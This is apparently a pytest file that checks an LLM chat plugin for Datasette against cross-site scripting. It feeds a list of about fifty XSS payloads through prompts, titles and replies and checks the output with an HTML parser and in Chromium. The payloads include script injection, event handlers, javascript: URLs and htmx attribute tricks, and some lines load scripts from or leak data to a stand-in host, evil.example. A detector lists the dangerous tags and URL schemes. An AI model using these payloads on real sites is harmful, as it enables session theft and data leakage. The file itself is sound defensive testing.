"""An XSS corpus through every place text is drawn: reply, prompt, system
prompt and title; checked by parsing the HTML and in Chromium."""

import re
from html.parser import HTMLParser

import pytest
from helpers import MESSAGE_ID, cid_from, stream_url_of_last
from sse_client import read_until_final
from test_browser import ARGS, CHROMIUM, browser  # noqa: F401  (fixture)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">html link</a>",
    "[md link](javascript:alert(1))",
    "[md link](JaVaScRiPt:alert(1))",
    "[md link](javascript&#58;alert(1))",
    "[md link](&#106;avascript:alert(1))",
    "[md link](  javascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb link](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    "![img](https://evil.example/pixel.png?leak=secret)",
    "<javascript:alert(1)>",
    "<https://example.com/\" onmouseover=\"alert(1)>",
    "[title trick](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>",
    "~~~\n<img src=x onerror=alert(1)>\n~~~~",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"&#x6A;avascript:alert(1)\">entity link</a>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "\"><script>alert(1)</script>",
    "'--><script>alert(1)</script><!--",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<div hx-get=\"/-/llm\" hx-trigger=\"load\" hx-swap=\"outerHTML\">htmx attribute</div>",
    "<a href=\"https://example.com\" hx-on:click=\"alert(1)\">hx-on</a>",
    "<div sse-connect=\"/evil\" hx-ext=\"sse\">sse attribute</div>",
    "{{ 7 * 7 }} {% raw %}",
]

KNOWN_INLINE_SCRIPT_STARTS = ("window.datasetteVersion = ", "\ndocument.body.addEventListener('click'")
BAD_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.I)
OUR_HTMX_ATTRIBUTES = {
    "hx-post", "hx-get", "hx-target", "hx-swap", "hx-ext", "sse-connect", "sse-swap",
    "hx-swap-oob", "hx-trigger", "hx-push-url", "hx-select", "hx-include",
}
HTMX_URL_ATTRIBUTES = ("hx-get", "hx-post", "sse-connect")


class Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_script = None
        self.in_style = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        where = f"<{tag} {attrs}>"
        if tag == "script":
            src = attributes.get("src")
            if src is not None and not src.startswith("/-/static"):
                self.problems.append("foreign script " + where)
            self.in_script = "" if src is None else None
        if tag in ("iframe", "object", "embed", "base", "frame", "frameset", "applet", "style"):
            self.problems.append("forbidden element " + where)
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append("meta http-equiv " + where)
        if tag == "form" and not (attributes.get("action") or "").startswith(("/-/llm", "/-/logout")):
            self.problems.append("foreign form " + where)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append("event handler " + where)
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc") and BAD_URL.match(value or ""):
                self.problems.append("dangerous URL " + where)
            if name == "srcdoc" or name == "formaction":
                self.problems.append("forbidden attribute " + where)
            if name.startswith(("hx-", "sse-", "data-hx")) and name not in OUR_HTMX_ATTRIBUTES:
                self.problems.append("htmx attribute " + where)
            if name in HTMX_URL_ATTRIBUTES and not (value or "").startswith("/-/llm"):
                self.problems.append("htmx request elsewhere " + where)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        if self.in_script is not None:
            self.in_script += data

    def handle_endtag(self, tag):
        if tag == "script" and self.in_script is not None:
            if self.in_script and not self.in_script.startswith(KNOWN_INLINE_SCRIPT_STARTS):
                self.problems.append("inline script: " + self.in_script[:80])
            self.in_script = None


def problems_in(html: str) -> list[str]:
    checker = Checker()
    checker.feed(html)
    # sse-* attributes are fine on our own elements only: ours carry our URLs
    for url in re.findall(r'sse-connect="([^"]*)"', html):
        if not url.startswith("/-/llm/"):
            checker.problems.append("foreign sse-connect " + url)
    return checker.problems


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """One conversation per payload, each payload as prompt, system prompt,
    title and reply; served by one real server."""
    import os

    from conftest import Server

    user_dir = tmp_path_factory.mktemp("xss") / "llm"
    user_dir.mkdir()
    server = Server(user_dir, env={"LLM_USER_PATH": str(user_dir)}).start()
    conversations = []
    with server.client() as client:
        for payload in PAYLOADS:
            cid = cid_from(
                client.post(
                    "/-/llm/start",
                    data={"model_id": "steady", "prompt": payload, "system": payload,
                          "option_text": payload},
                )
            )
            conversations.append(cid)
        for cid in conversations:
            page = client.get(f"/-/llm/{cid}").text
            read_until_final(client, stream_url_of_last(cid, page))
        # and each payload as a title, given by renaming
        for payload, cid in zip(PAYLOADS, conversations):
            assert client.post(f"/-/llm/{cid}/title", data={"title": payload}).status_code == 303
    yield server, conversations
    server.stop()


def test_sanitizer_blocks_every_payload_in_html(corpus):
    server, conversations = corpus
    with server.client() as client:
        index = client.get("/-/llm").text
        assert problems_in(index) == []
        assert problems_in(client.get("/-/llm", params={"q": "script alert"}).text) == []
        for payload, cid in zip(PAYLOADS, conversations):
            html = client.get(f"/-/llm/{cid}").text
            assert "status-done" in html, payload
            assert problems_in(html) == [], payload
            # the rename form and the whole-prompt page draw the same text
            assert problems_in(client.get(f"/-/llm/{cid}/title").text) == [], payload
            mid = MESSAGE_ID.search(html).group(1)
            assert problems_in(client.get(f"/-/llm/{cid}/prompt/{mid}").text) == [], payload
            # exports are data, never HTML
            for suffix in (".md", ".json"):
                export = client.get(f"/-/llm/{cid}{suffix}")
                assert "text/html" not in export.headers["content-type"]
                assert export.headers["x-content-type-options"] == "nosniff"
            if "{{" in payload:  # shown as typed, never evaluated as a template
                assert html.count("{{ 7 * 7 }} {% raw %}") >= 2


def test_markdown_renderer_alone():
    from datasette_llm_htmx.rendering import markdown_to_html

    for payload in PAYLOADS:
        html = str(markdown_to_html(payload))
        assert problems_in(html) == [], payload
        assert "<script" not in html.lower(), payload
        assert "<img" not in html.lower(), payload  # images become links


@pytest.mark.browser
@pytest.mark.skipif(not __import__("os").path.exists(CHROMIUM), reason="no Chromium")
def test_no_dialog_and_no_csp_violation_in_chromium(browser, corpus):  # noqa: F811
    server, conversations = corpus
    context = browser.new_context()
    context.add_cookies([{"name": "ds_actor", "value": server.root_cookies["ds_actor"], "url": server.url}])
    page = context.new_page()
    dialogs, errors, requests = [], [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("request", lambda r: requests.append(r.url))
    page.goto(server.url + "/-/llm")
    for cid in conversations:
        page.goto(f"{server.url}/-/llm/{cid}")
        page.wait_for_load_state("load")
        # hover and focus everything, as a curious reader would
        for element in page.locator("#messages a, #messages details, #messages input").all()[:20]:
            element.hover()
        page.keyboard.press("Tab")
    context.close()
    assert dialogs == []
    assert errors == []
    assert all(url.startswith(server.url) for url in requests), [
        u for u in requests if not u.startswith(server.url)
    ]


@pytest.mark.browser
@pytest.mark.skipif(not __import__("os").path.exists(CHROMIUM), reason="no Chromium")
def test_a_same_origin_text_response_cannot_run_as_a_script(browser, corpus):  # noqa: F811
    """`script-src 'self'` allows any same-origin URL: Datasette's CSV of an
    attacker-chosen column name is JavaScript if the browser sniffs it."""
    server, conversations = corpus
    gadget = "/_memory/-/query.csv?sql=" + __import__("urllib.parse").parse.quote(
        'select 1 as "window.gadgetRan=1//"'
    )
    with server.client() as client:
        response = client.get(gadget)
        assert response.text.startswith("window.gadgetRan=1//")
        assert response.headers["x-content-type-options"] == "nosniff"
    context = browser.new_context()
    context.add_cookies([{"name": "ds_actor", "value": server.root_cookies["ds_actor"], "url": server.url}])
    page = context.new_page()
    page.goto(f"{server.url}/-/llm/{conversations[0]}")
    # as if an injection had put a script element on the page
    page.evaluate(
        """(src) => new Promise((resolve) => {
            const script = document.createElement("script");
            script.src = src;
            script.onload = script.onerror = () => resolve();
            document.body.appendChild(script);
        })""",
        gadget,
    )
    assert page.evaluate("window.gadgetRan") is None
    context.close()
